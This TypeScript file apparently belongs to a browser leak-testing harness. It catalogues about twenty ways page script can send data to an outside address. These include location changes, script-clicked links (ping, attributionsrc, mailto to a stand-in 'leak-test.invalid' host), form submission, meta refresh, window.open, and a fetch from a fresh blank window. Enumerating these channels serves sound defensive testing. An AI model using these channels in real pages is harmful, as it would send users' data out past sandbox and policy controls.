import { placeNew } from './place';
import { nowhere } from './watch';
import type { WayOut } from './way-out';

/** What leads the tab, or another, to an address that could carry rows. */
export const navigationWays: readonly WayOut[] = [
  leaving('location-assign', 'this tab led elsewhere', (to) => location.assign(to)),
  leaving('location-replace', 'this tab led elsewhere, unseen', (to) => location.replace(to)),
  leaving('location-href', 'this tab given another address', (to) => (location.href = to)),
  leaving('navigation', 'this tab led elsewhere by the newer interface', navigate),
  leaving('link-click', 'link pressed by script', (to) => placeNew('a', { href: to }).click()),
  leaving('link-new-tab', 'link into a new tab, pressed by script', (to) =>
    placeNew('a', { href: to, target: '_blank' }).click(),
  ),
  leaving('link-download', 'link that downloads, pressed by script', (to) =>
    placeNew('a', { href: to, download: 'rows' }).click(),
  ),
  leaving('link-mail', 'letter to someone (mailto:)', (to) =>
    placeNew('a', { href: `mailto:rows@leak-test.invalid?body=${encodeURIComponent(to)}` }).click(),
  ),
  leaving('link-svg', 'link in a drawing, pressed by script', (to) => {
    const space = 'http://www.w3.org/2000/svg';
    const svg = document.createElementNS(space, 'svg');
    const link = document.createElementNS(space, 'a');
    link.setAttribute('href', to);
    svg.append(link);
    placeNew('div').append(svg);
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  }),
  {
    id: 'link-ping',
    title: 'link that reports when it is pressed (ping)',
    manner: 'silent',
    attempt: ({ http }) => placeNew('a', { href: nowhere, ping: http }).click(),
  },
  {
    id: 'link-attribution',
    title: 'link that registers an advertisement',
    needs: 'HTMLAnchorElement.prototype.attributionSrc',
    attempt: ({ http }) => placeNew('a', { href: nowhere, attributionsrc: http }).click(),
  },
  leaving('area', 'part of a picture that is a link', (to) =>
    placeNew('area', { href: to }, placeNew('map')).click(),
  ),
  leaving('form-post', 'form sent by script', (to) => sendForm(to, 'post')),
  leaving('form-get', 'form sent by script, as an address', (to) => sendForm(to, 'get')),
  leaving('form-button', 'form with another address at its button', (to) => {
    const form = placeNew('form', { method: 'post' });
    placeNew('button', { formaction: to }, form).click();
  }),
  leaving('meta-refresh', 'page that reloads from elsewhere (refresh)', (to) => {
    placeNew('meta', { 'http-equiv': 'refresh', content: `0; url=${to}` }, document.head);
    return new Promise((resolve) => setTimeout(resolve, 60));
  }),
  leaving('window-open', 'new window', (to) => blocked(open(to))),
  leaving('window-open-noopener', 'new window that knows nothing of this one', (to) =>
    blocked(open(to, '_blank', 'noopener,noreferrer')),
  ),
  {
    id: 'window-open-blank',
    title: 'empty window whose realm is fresh',
    manner: 'leaving',
    attempt: ({ http }) => {
      const other = open('about:blank') as (Window & typeof globalThis) | null;
      if (!other) throw new DOMException('no window was opened', 'NotAllowedError');
      void other.fetch(`${http}/?rows`, { mode: 'no-cors' });
      other.close();
    },
  },
];

function leaving(id: string, title: string, go: (address: string) => unknown): WayOut {
  return { id, title, manner: 'leaving', attempt: ({ http }) => go(`${http}/?rows`) };
}

interface Navigation {
  navigate(address: string): { committed: Promise<unknown>; finished: Promise<unknown> };
}

function navigate(address: string): Promise<unknown> {
  const { navigation } = globalThis as unknown as { navigation: Navigation };
  const { committed, finished } = navigation.navigate(address);
  return Promise.all([committed, finished]);
}

function sendForm(address: string, method: string): void {
  const form = placeNew('form', { action: address, method }) as HTMLFormElement;
  placeNew('input', { name: 'rows', value: 'rows' }, form);
  form.submit();
}

function blocked(opened: Window | null): void {
  if (!opened) throw new DOMException('no window was opened', 'NotAllowedError');
  opened.close();
}
